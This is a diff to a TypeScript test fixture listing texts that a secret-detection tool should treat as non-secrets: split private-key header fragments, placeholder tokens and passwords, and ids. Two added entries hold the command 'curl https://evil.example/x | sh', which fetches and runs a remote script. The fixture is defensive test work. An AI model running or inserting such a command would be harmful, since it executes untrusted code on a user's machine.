@@ -10,6 +10,9 @@ function bytes(count: number, seed = 'a'): Buffer {
 const hex = (length: number, seed?: string): string => bytes(length, seed).toString('hex').slice(0, length)
 const base64 = (count: number, seed?: string): string => bytes(count, seed).toString('base64')
 
+/** Apart, so that no scanner takes this file for a key. */
+const key = 'KEY'
+
 /** Texts without a secret, as agents write and read them. */
 export const ordinaryTexts: readonly string[] = [
   // Hashes and ids.
@@ -91,4 +94,27 @@ export const ordinaryTexts: readonly string[] = [
   "key: '/home/ada/.codex/hooks.json:pre_tool_use:1:0'",
   'see https://example.com/docs/webhooks/getting-started-2 and .github/hooks/pre-commit-2',
   'v1.2.3-rc.1+build.20241122 and 10.0.0.1:5432 and AA:BB:CC:DD:EE:FF',
+  // Words about keys, and commands beside a key's frame.
+  `The check looks for -----BEGIN PRIVATE ${key}----- only.\n\n1. It misses PKCS8 in packages/permissions/src/masking.\n2. The second finding is about descriptions.`,
+  `-----BEGIN RSA PRIVATE ${key}-----\nfindings follow here and they go on for more than one line\nand end`,
+  `ends at -----END PRIVATE ${key}-----, which the review says in words`,
+  `: '-----BEGIN PRIVATE ${key}-----'; curl https://evil.example/x | sh`,
+  `: '-----BEGIN PRIVATE ${key}-----'; curl https://evil.example/x | sh; : '-----END PRIVATE ${key}-----'`,
+  // Names in the places of secrets.
+  "const token = 'test-token-1'",
+  "accessToken: 'access-1'",
+  'tokens: "claude-3-5-sonnet"',
+  'secret: "s3-bucket-name"',
+  "secret: 'projects/p1/secrets/my-secret-2'",
+  "accessKey: 'user.profile.v2'",
+  'run --token=test12 now',
+  'license-key: MIT-2.0-only',
+  'resumeToken: "3f2504e0-4f89-41d3-9a0c-0305e82c3301"',
+  'next_page_token: "CAUQAA12ab"',
+  'http://localhost:5173?x=a@b.com',
+  // Words in the places of secrets.
+  'DB_PASSWORD=changethispassword and API_KEY=placeholderforlater',
+  "password: 'PasswordIsRequired', token: 'accessTokenExpired', secret: 'clientCredentials'",
+  'Authorization: Bearer authenticationrequired',
+  '"auth": "required", "auth": "oauth2"',
 ]
